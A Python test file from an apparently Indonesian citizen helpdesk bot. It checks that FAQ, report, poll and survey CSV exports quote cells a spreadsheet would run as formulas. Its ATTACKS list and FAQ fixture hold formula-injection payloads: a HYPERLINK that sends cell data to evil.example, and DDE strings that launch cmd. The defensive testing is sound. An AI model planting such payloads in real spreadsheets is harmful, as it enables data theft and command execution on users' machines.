"""CSV formula injection: no CSV the project writes holds a cell a spreadsheet would run as a
formula (OWASP: = + - @ tab CR get a leading quote), and the FAQ spreadsheet still comes
back unchanged through `tanya export` -> `tanya import`."""

from __future__ import annotations

import csv
import io
import textwrap
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from aiohttp import ClientSession

from bot.config import Settings
from bot.core.surveys import parse_questions, questions_json
from bot.csv_cells import harmless, restored
from bot.faq import check_faq, read_faq
from bot.faq.importing import import_faq
from bot.faq.spreadsheet import export_faq
from bot.report.build import Report, TopicRow
from bot.report.render import render_csv
from bot.server import create_app
from bot.service import Loaded
from bot.store import Store
from bot.store.clock import now_iso
from tests.desk_helpers import add_official, browser, running, sign_in

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def formula_cells(text: str) -> list[str]:
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize(
    "text", [*ATTACKS, "'=already quoted", "''@twice", "'plain quote", "plain", "", "-"]
)
def test_a_quoted_cell_reads_back_as_it_was(text: str) -> None:
    cell = harmless(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert restored(cell) == text


def test_numbers_stay_numbers() -> None:
    assert harmless(-3) == -3 and harmless(0.5) == 0.5


def test_faq_csv_has_no_formula_and_imports_back_unchanged(tmp_path: Path) -> None:
    faq_dir = tmp_path / "faq"
    faq_dir.mkdir()
    (faq_dir / "layanan.yml").write_text(
        textwrap.dedent(
            """\
            topic: layanan
            title: {id: "=Layanan", en: Services}
            entries:
              - id: syarat-ktp
                questions:
                  id: ["=syarat ktp apa saja", "+62 nomor pengaduan berapa"]
                  en: ["@desk what do I need for an ID card"]
                answer:
                  id: "- Bawa KK\\n- Bawa akta lahir"
                  en: '=HYPERLINK("http://evil.example","Klik")'
                source: "'=kutipan dari perda"
            """
        ),
        encoding="utf-8",
    )
    original = read_faq(faq_dir)
    sheet = tmp_path / "faq.csv"

    export_faq(original, sheet, "csv")

    written = sheet.read_text(encoding="utf-8-sig")
    assert formula_cells(written) == []
    assert "'- Bawa KK" in written and "''=kutipan" in written
    imported = tmp_path / "imported"
    imported.mkdir()
    report = import_faq(sheet, imported)
    assert report.notices == []
    assert read_faq(imported) == original
    assert check_faq(imported).errors == []


def test_report_csv_has_no_formula() -> None:
    report = Report(
        month="2026-10",
        timezone="Asia/Jakarta",
        start="2026-09-30T17:00:00.000+00:00",
        end="2026-10-31T17:00:00.000+00:00",
        generated_at="2026-11-01T00:00:00.000+00:00",
        questions=120,
        channels={"webchat": 120},
        languages={"id": 120},
        outcomes={"answer": 120},
        outcome_shares={"answer": 1.0},
        tickets={"opened": 0},
        response_median_seconds=None,
        response_p90_seconds=None,
        feedback={"helpful": None, "not_helpful": None},
        helpful_rate=None,
        ratings=None,
        rating_average=None,
        topics=[TopicRow("pajak", {"id": attack}, 120, 1.0) for attack in ATTACKS],
    )

    written = render_csv(report, "id")

    assert formula_cells(written) == []
    assert "'@SUM(1+1)" in written


@pytest.fixture
def store(tmp_path: Path) -> Store:
    return Store.open(tmp_path / "tanya.db")


@pytest.fixture
async def official(
    trained_settings: Settings, loaded: Loaded, store: Store
) -> AsyncIterator[ClientSession]:
    add_official(store, "Rina", "agent")
    app = create_app(trained_settings, loaded, store)
    async with running(app) as server, browser(server) as client:
        assert (await sign_in(client, "Rina")).status == 303
        yield client


async def test_poll_and_survey_results_csv_have_no_formula(
    official: ClientSession, store: Store
) -> None:
    citizens = [store.citizen("webchat", f"warga-{n}").id for n in range(len(ATTACKS))]
    poll = store.broadcasts.create(
        kind="poll",
        text="Pilih",
        topics=["pengumuman"],
        channels=["webchat"],
        send_at=now_iso(),
        created_by=None,
        options=ATTACKS,
    )
    survey = store.broadcasts.create(
        kind="survey",
        text="Survei",
        topics=["pengumuman"],
        channels=["webchat"],
        send_at=now_iso(),
        created_by=None,
        options=questions_json(parse_questions("=Saran Anda? [teks]")),
    )
    for citizen in citizens:
        store.subscriptions.subscribe(citizen, "pengumuman")
    for broadcast in (poll, survey):  # sent to them (only recipients may vote or answer)
        store.broadcasts.start(broadcast)
        store.db.execute(
            "UPDATE deliveries SET status = 'sent' WHERE broadcast_id = ?", [broadcast]
        )
    for option, citizen in enumerate(citizens):
        assert store.broadcasts.vote(poll, citizen, [option])
    for citizen, attack in zip(citizens, ATTACKS, strict=True):
        store.surveys.answer(survey, citizen, 0, attack, total=1)

    for number in (poll, survey):
        response = await official.get(f"/desk/announcements/{number}/results.csv")
        assert response.status == 200
        written = await response.text()
        assert formula_cells(written) == [], number
        assert "'@SUM(1+1)" in written
